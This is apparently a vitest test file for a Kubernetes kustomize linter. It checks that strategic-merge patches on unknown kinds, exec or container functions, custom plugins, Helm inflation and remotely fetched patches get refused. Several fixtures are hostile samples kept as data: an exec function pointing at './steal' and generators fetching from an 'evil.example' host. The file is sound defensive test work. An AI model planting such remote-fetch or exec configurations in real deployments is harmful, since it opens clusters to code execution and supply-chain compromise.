import { describe, expect, test } from 'vitest';
import { type Tree, treeSnapshot } from '../../test/support/tree-snapshot.ts';
import { ClosureGraph } from './closure.ts';

const faultsOf = (tree: Tree): string[] =>
  new ClosureGraph(treeSnapshot(tree)).closureOf('app').faults.map((f) => `${f.code} ${f.file}:${f.line} ${f.message}`);
const codesOf = (tree: Tree): string[] => faultsOf(tree).map((f) => f.split(' ', 1)[0] ?? '');

const rollout = 'apiVersion: argoproj.io/v1alpha1\nkind: Rollout\nmetadata: {name: a}\nspec: {template: {spec: {containers: [{name: a}]}}}\n';
const indented = (text: string): string => text.replace(/^(?=.)/gm, '      ');
const inline = (patch: string, target = ''): Tree => ({ 'app/kustomization.yaml': `patches:\n  - patch: |\n${indented(patch)}${target}` });
const byPath = (patch: string, target = ''): Tree => ({ 'app/kustomization.yaml': `patches:\n  - path: p.yaml\n${target}`, 'app/p.yaml': patch });
const onRollout = '    target: {kind: Rollout}\n';
const merge = (place: string, kind = 'Rollout') =>
  `source.strategic_merge ${place} a strategic-merge patch on ${kind} replaces whole lists without a word: containers can vanish`;

describe('a strategic merge on a kind that kustomize does not know is refused', () => {
  test.each<[string, Tree, string[]]>([
    ['inline', inline(rollout), [merge('app/kustomization.yaml:2')]],
    ['by path', byPath(rollout), [merge('app/p.yaml:1')]],
    ['without apiVersion', inline('kind: Rollout\nspec: {}\n'), [merge('app/kustomization.yaml:2')]],
    ['with neither apiVersion nor kind, but a target', inline('spec: {}\n', onRollout), [merge('app/kustomization.yaml:2')]],
    ['with nothing that names a kind', byPath('spec: {}\n'), [merge('app/p.yaml:1', 'unknown kind')]],
    [
      'on a kind of a CRD under k8s.io',
      inline('apiVersion: gateway.networking.k8s.io/v1\nkind: HTTPRoute\nspec: {}\n'),
      [merge('app/kustomization.yaml:2', 'HTTPRoute')],
    ],
    ['as the second document of a file', byPath(`apiVersion: v1\nkind: Service\n---\n${rollout}`), [merge('app/p.yaml:1')]],
    ['under patchesStrategicMerge', { 'app/kustomization.yaml': `patchesStrategicMerge:\n  - |\n${indented(rollout)}` }, [merge('app/kustomization.yaml:2')]],
  ])('%s', (_, tree, faults) => {
    expect(faultsOf(tree)).toEqual(faults);
  });

  test.each([
    [
      'names a built-in kind, though its target is a Rollout',
      inline(rollout.replace('argoproj.io/v1alpha1', 'apps/v1').replace('kind: Rollout', 'kind: Deployment'), onRollout),
    ],
    ['carries a tag that only Go knows', inline(rollout.replace('{name: a}', '{name: !any a}'))],
    ['says one key twice', inline(rollout.replace('kind: Rollout', 'kind: Rollout\nkind: Rollout'))],
    ['stands on one line of JSON', { 'app/kustomization.yaml': 'patchesStrategicMerge:\n  - \'{"apiVersion":"argoproj.io/v1alpha1","kind":"Rollout"}\'\n' }],
  ])('also when it %s', (_, tree) => {
    expect(codesOf(tree)).not.toEqual([]);
  });
});

describe('a patch that loses nothing is allowed', () => {
  const operations = '- op: add\n  path: /spec/replicas\n  value: 2\n';
  test.each<[string, Tree]>([
    ['JSON 6902 inline', inline(operations, onRollout)],
    ['JSON 6902 by path', byPath(operations, onRollout)],
    ['JSON 6902 written as JSON', byPath('[{"op": "remove", "path": "/spec"}]', onRollout)],
    ['a strategic merge on a Deployment', inline('apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: a}\nspec: {}\n')],
    ['a strategic merge on a Service', byPath('apiVersion: v1\nkind: Service\nmetadata: {name: a}\nspec: {}\n')],
    ['a strategic merge on a NetworkPolicy', inline('apiVersion: networking.k8s.io/v1\nkind: NetworkPolicy\nmetadata: {name: a}\nspec: {}\n')],
  ])('%s', (_, tree) => {
    expect(faultsOf(tree)).toEqual([]);
  });
});

describe('a generator or transformer may only be a built-in one that stays in the repository', () => {
  const plugin = (text: string, field = 'transformers', name = 'x.yaml'): Tree => ({
    'app/kustomization.yaml': `${field}: [${name}]\n`,
    [`app/${name}`]: text,
  });
  const fn = (annotation: string) => `apiVersion: v1\nkind: Any\nmetadata:\n  name: f\n  annotations:\n    ${annotation}: |\n      exec: {path: ./steal}\n`;

  test.each<[string, Tree, string[]]>([
    ['an exec or container function', plugin(fn('config.kubernetes.io/function')), ['source.function app/x.yaml:1 runs an exec or container function']],
    ['a function by its old name', plugin(fn('config.k8s.io/function'), 'generators'), ['source.function app/x.yaml:1 runs an exec or container function']],
    [
      'a function on a built-in kind',
      plugin(fn('config.kubernetes.io/function').replace('apiVersion: v1', 'apiVersion: builtin')),
      ['source.function app/x.yaml:1 runs an exec or container function'],
    ],
    [
      'a custom plugin',
      plugin('apiVersion: someteam/v1\nkind: Sed\nmetadata: {name: s}\n', 'validators'),
      ['source.custom_plugin app/x.yaml:1 needs the plugin Sed'],
    ],
    [
      'a Helm chart',
      plugin('apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata: {name: h}\n', 'generators'),
      ['source.helm_inflation app/x.yaml:1 inflates a Helm chart at render time'],
    ],
    ['a built-in', plugin('apiVersion: builtin\nkind: NamespaceTransformer\nmetadata: {name: spaces, namespace: a}\n'), []],
  ])('%s', (_, tree, faults) => {
    expect(faultsOf(tree)).toEqual(faults);
  });

  test.each([
    [
      'a built-in generator that fetches an environment file',
      plugin('apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: g}\nenvs: ["https://evil.example/x"]\n', 'generators'),
    ],
    ['a built-in patch that is fetched', plugin('apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: p}\npath: https://evil.example/p.yaml\n')],
    ['a plugin that is not readable', plugin('apiVersion: someteam/v1\nkind: Sed\nkind: Sed\n', 'generators', 'x.txt')],
    ['a function with a tag that only Go knows', plugin(fn('config.kubernetes.io/function').replace('name: f', 'name: !any f'))],
    [
      'a function in a folder of transformers',
      {
        'app/kustomization.yaml': 'transformers: [in]\n',
        'app/in/kustomization.yaml': 'resources: [f.yaml]\n',
        'app/in/f.yaml': fn('config.kubernetes.io/function'),
      },
    ],
  ])('%s is refused', (_, tree) => {
    expect(codesOf(tree)).not.toEqual([]);
  });
});
